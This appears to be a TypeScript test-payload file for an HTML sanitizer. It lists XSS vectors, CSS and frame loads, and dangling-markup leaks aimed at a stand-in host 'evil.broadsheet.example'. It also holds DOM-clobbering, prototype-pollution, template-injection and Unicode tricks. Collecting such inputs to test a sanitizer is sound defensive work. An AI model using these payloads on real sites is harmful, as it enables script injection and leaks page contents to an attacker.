import { CALL, family } from './payload.ts';

const EVIL = 'https://evil.broadsheet.example';

/** Style that loads, covers or speaks. */
export const styles = family('style', [
  `<p style="background:url(${EVIL}/b.png)">words</p>`,
  `<p style="background-image:image-set('${EVIL}/s.png' 1x);list-style:url(${EVIL}/l.png);cursor:url(${EVIL}/c.cur),auto">words</p>`,
  `<p style="content:url(${EVIL}/p.png);border-image:url(${EVIL}/o.png);mask:url(${EVIL}/m.svg#x)">words</p>`,
  `<p style="width:expression(${CALL});behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#y)">words</p>`,
  `<p style="position:fixed;inset:0;z-index:2147483647;opacity:.01">a line over everything</p>`,
  `<p style="--x:url(${EVIL}/v.png);background:var(--x)">words</p>`,
  `<style>@import url(${EVIL}/i.css);@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x}</style>`,
  `<style>:host{display:none!important}*{background:url(${EVIL}/all.png)!important}</style>`,
  `<style>*{display:none!important}</style>`,
  `<style>html{content-visibility:hidden!important}</style>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><style>p::before{content:url(${EVIL}/p.png)}</style>`,
  `<p class="teaser removed-count panel close embed" id="removed-panel" slot="x" part="y" data-block="1" data-removal="0" data-anchor="a" data-jump="b">a line that wears our names</p>`,
  `<font face="x" color="url(${EVIL})" size="+99">large words</font> <center>in the middle</center> <blink>blink</blink>`,
]);

/** Documents in the document. */
export const frames = family('frame', [
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="${EVIL}/frame" allow="camera *" allowfullscreen onload="${CALL}"></iframe>`,
  `<iframe name="x" credentialless loading="eager" src="${EVIL}/f2"></iframe>`,
  `<frameset onload="${CALL}"><frame src="javascript:${CALL}"></frameset>`,
  `<embed src="${EVIL}/e.swf" allowscriptaccess="always" type="application/x-shockwave-flash">`,
  `<object data="${EVIL}/o.svg" type="image/svg+xml"><param name="src" value="javascript:${CALL}"><p>words instead</p></object>`,
  `<applet code="x" codebase="${EVIL}"><p>words instead</p></applet>`,
  `<portal src="${EVIL}/portal"></portal><fencedframe></fencedframe>`,
  `<video controls poster="https://pictures.broadsheet.example/still.jpg"><source src="${EVIL}/v.mp4"><track src="${EVIL}/t.vtt" default></video>`,
  `<img src="https://pictures.broadsheet.example/d.jpg" longdesc="javascript:${CALL}" lowsrc="${EVIL}/low.png" dynsrc="${EVIL}/dyn" ismap alt="a boat">`,
  `<picture><source srcset="javascript:${CALL}, https://pictures.broadsheet.example/e.webp 2x" onerror="${CALL}"><img src="https://pictures.broadsheet.example/e.jpg" alt="a boat"></picture>`,
  `<img src="https://pictures.broadsheet.example/g.jpg" sizes="(min-width: 1px) calc(1px + expression(${CALL}))" srcset="https://pictures.broadsheet.example/g2.jpg 100w" alt="a">`,
  `<img alt="a &quot; onerror=${CALL} x=&quot;" src="https://pictures.broadsheet.example/h.jpg">`,
  `<image src="https://pictures.broadsheet.example/i.jpg" onload="${CALL}">`,
]);

/** Forms, and marks left open to swallow what follows. */
export const forms = family('form', [
  `<form action="javascript:${CALL}"><p>Words in a form.</p><input type="submit" value="send"><button>send</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${CALL}">send</button>`,
  `<form><input name="parentNode"><p>Words in a form that lies.</p></form>`,
  `<form><input name="attributes"><input name="childNodes"><input name="nodeType"><p>Words in a form that lies.</p></form>`,
  `<form><output name="firstChild">x</output><object name="nextSibling"></object><p>Words.</p></form>`,
  `<form><fieldset name="localName"><p>Words.</p></fieldset><img name="shadowRoot" src="x"></form>`,
  `<a id="location"></a><a id="location" name="href" href="javascript:${CALL}">words</a>`,
  `<img name="body"><img name="documentElement"><img name="querySelectorAll"><img name="getElementById"><form name="defaultView"></form>`,
  `<input type="image" src="${EVIL}/i.png" formaction="javascript:${CALL}"><isindex action="javascript:${CALL}" type="image">`,
  `<input type="hidden" value="x" onbeforeinput="${CALL}" popover><keygen autofocus onfocus="${CALL}">`,
  `<label for="x">words<input list="l"><datalist id="l"><option value="x">${CALL}</option></datalist></label>`,
  `<img src="${EVIL}/leak?`,
  `<img src='${EVIL}/leak?`,
  `<base target='`,
  `<textarea name="x">`,
  `<a href="${EVIL}/leak?`,
  `<button formaction="${EVIL}/leak?`,
  `<select><option>`,
  `<div title="`,
]);

/** Names and words that mean something to programs. */
export const names = family('name', [
  `<p id="__proto__" class="__proto__ constructor prototype" name="toString">words</p>`,
  `<meta property="__proto__" content="x"><meta name="constructor" content="x"><meta itemprop="hasOwnProperty" content="x">`,
  `<a name="__proto__"></a><p>See <a href="#__proto__">there</a> and <a href="#constructor">here</a>.</p>`,
  `<script type="application/ld+json">{"__proto__":{"polluted":true},"@type":"NewsArticle","headline":"${CALL}","constructor":{"prototype":{"polluted":true}}}</script>`,
  `<p>{{constructor.constructor('${CALL}')()}} \${${CALL}} &lt;%= ${CALL} %&gt; #{${CALL}} @(${CALL})</p>`,
  `<p ng-app ng-csp v-html="'${CALL}'" x-data x-init="${CALL}" hx-get="${EVIL}/h" hx-trigger="load" data-bind="html: ${CALL}">words</p>`,
  `<p is="x-evil" part="x" exportparts="y" slot="z" contenteditable="true" spellcheck="true" inert accesskey="x" tabindex="5" autofocus>words</p>`,
  `<p itemprop="articleBody" role="alert" aria-live="assertive" aria-label="${CALL}" aria-hidden="false">words of one paragraph</p>`,
  `<p lang="&quot;><img src=x onerror=${CALL}>" dir="&quot; onclick=${CALL}">words of another tongue</p>`,
  `<ol start="${CALL}" type="javascript:" reversed="x"><li value="9e99">one</li><li value="-2147483649">two</li></ol>`,
  `<table><tr><th colspan="999999999" rowspan="999999999" scope="javascript:">a</th><td headers="x" abbr="y" colspan="-1">b</td></tr><tr><td>c</td><td>d</td></tr></table>`,
  `<time datetime="${CALL}&lt;img&gt;">noon</time> <abbr title="&lt;img src=x onerror=${CALL}&gt;">BP</abbr>`,
  `<dfn title="${CALL}">tide</dfn> <bdo dir="${CALL}">words</bdo> <data value="${CALL}">7</data> <meter value="2">2</meter> <output for="x">3</output>`,
  `<p>&lt;script&gt;${CALL}&lt;/script&gt; and &amp;lt;img src=x onerror=${CALL}&amp;gt;</p>`,
  `<p>\u0000<\u0000img src=x onerror=${CALL}>\u0001\ufffe\uffff\ud800 words</p>`,
  `<p>\u202e\u2066${CALL}\u2069\u202c words</p>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<ruby>a<rp onclick="${CALL}">(</rp><rt><img src=x onerror=${CALL}></rt></ruby>`,
]);
